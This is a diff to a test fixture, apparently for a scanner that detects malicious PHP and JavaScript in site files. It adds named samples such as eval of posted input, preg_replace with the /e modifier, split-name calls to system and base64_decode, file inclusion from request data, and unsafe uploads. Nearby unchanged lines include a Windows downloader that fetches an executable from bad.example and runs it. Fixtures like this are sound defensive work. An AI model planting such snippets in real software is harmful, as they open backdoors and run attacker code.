@@ -52,6 +52,20 @@ export const MALICIOUS_CODE: Named = {
   'PHP that is put together for a file': `<?php $a = '<?php @eval($' . '_POST' . '["c"]);'; file_put_contents(__DIR__ . '/a.php', $a);`,
   'JSON into a PHP file': `<?php file_put_contents('log.php', json_encode($_POST));`,
   'a method of a Windows object': `<?php $s = new COM('WScript.Shell'); $e = $s->exec('cmd /c ' . $_GET['c']);`,
+  'modifier e with what was matched in double quotes': `<?php preg_replace('/(.*)/e', 'strtolower("$1")', $_POST['x']);`,
+  'modifier e with a function that runs what was matched': `<?php preg_replace('/(.*)/e', "assert('$1')", $_POST['x']);`,
+  'a decoder under a name of two pieces, and its result run': `<?php $f = 'base64' . '_decode'; eval($f('${base64('phpinfo();')}'));`,
+  'a command under a name of two pieces': `<?php $f = 'sys' . 'tem'; $f('id');`,
+  'a function that includes what it is given': `<?php function load($f) { include $f; } load($_GET['f']);`,
+  'an upload whose ending may be that of a program': `<?php $e = pathinfo($_POST['n'], PATHINFO_EXTENSION); if (!in_array($e, array('zip', 'php'))) { exit; } move_uploaded_file($_FILES['f']['tmp_name'], DIR . $n);`,
+  'a page for commands on the network': `<?php $c = array('ifconfig', 'netstat -an', 'ipconfig', 'whoami', 'uname -a'); passthru($c[(int) $_GET['i']]);`,
+  'code in many short texts': `<?php $parts = array(${Array.from(
+    { length: 40 },
+    (_, i) =>
+      `'${packed(`${i}${RUN}`.repeat(i + 1))
+        .padEnd(60, 'Qz7w')
+        .slice(0, 60)}'`,
+  ).join(',')}); load($parts);`,
   'script: decoded and run': `eval(unescape("${percent('document.location="http://bad.example/"; var a = 1;')}"));`,
   'script: character codes': `eval(String.fromCharCode(${[...'window.location="http://bad.example/";'].map((char) => char.charCodeAt(0)).join(',')}));`,
   'script: a downloader for Windows': `var s = new ActiveXObject("WScr"+"ipt.Sh"+"ell"); var x = new ActiveXObject("MSXML2.XM"+"LHTTP"); x.open("GET","http://bad.example/a.exe"); var t = new ActiveXObject("ADO"+"DB.Stream"); t.SaveToFile("%TEMP%\\\\a.exe"); s.Run("cmd /c start %TEMP%\\\\a.exe");`,
@@ -105,6 +119,12 @@ function hours_save() {
   'a firewall that installs itself': `<?php $rules = "php_value auto_prepend_file '$path'\\n"; insert_with_markers($file, 'Firewall', $rules);`,
   'a part of a query kept apart': `<?php parse_str($_COOKIE['options'], $options); echo (int) $options['rows']; $page->show();`,
   'a method that is called exec': `<?php $result = $this->files->exec($_POST['cmd'], $_POST);`,
+  'lengths of texts counted again': `<?php $d = preg_replace('!s:(\\d+):"(.*?)";!e', "'s:'.strlen('$2').':\\"$2\\";'", stripcslashes($_POST['d']));`,
+  'a decoder that checkers of themes do not like': `<?php class Api { static function decode($input) { $fn = 'base64' . '_decode'; return $fn(strtr($input, '-_', '+/')); } }`,
+  'a template that is given what the request says': `<?php function load($args) { $path = DIR . '/templates/' . $args['template']; include $path; } load(array('template' => 'codes.php', 'back' => $_POST['back']));`,
+  'chunks of an archive': `<?php $info = pathinfo($name); $kinds = array('zip'); if (!in_array(strtolower($info['extension']), $kinds)) { exit; } $part = file_get_contents($_FILES['part']['tmp_name']); file_put_contents($target, $part, FILE_APPEND);`,
+  'addresses of the network cards': `<?php if (strpos(ini_get('disable_functions'), 'passthru') === false) { switch (PHP_OS) { case 'WINNT': passthru('ipconfig /all'); break; case 'Darwin': passthru('ifconfig'); break; default: passthru('netstat -ie'); } }`,
+  'a list of classes': `<?php $base = dirname(__DIR__); return array(${Array.from({ length: 40 }, (_, i) => `'Shop_Class_${i}' => $base . '/includes/payment-methods/class-shop-payment-method-number.php'`).join(',')});`,
   'script: a module': `import { render } from './render.js';\nconst items = document.querySelectorAll('.item');\nfor (const item of items) item.addEventListener('click', () => render(item.dataset.id));`,
   'script: minified': `!function(e,t){"object"==typeof exports&&"undefined"!=typeof module?module.exports=t():e.widget=t()}(this,function(){"use strict";return function(e){return e&&e.length?e.map(function(e){return e.id}):[]}});`,
   'script: a fetch': `fetch('/wp-json/wp/v2/posts').then((r) => r.json()).then((posts) => { document.title = posts[0].title.rendered; });`,
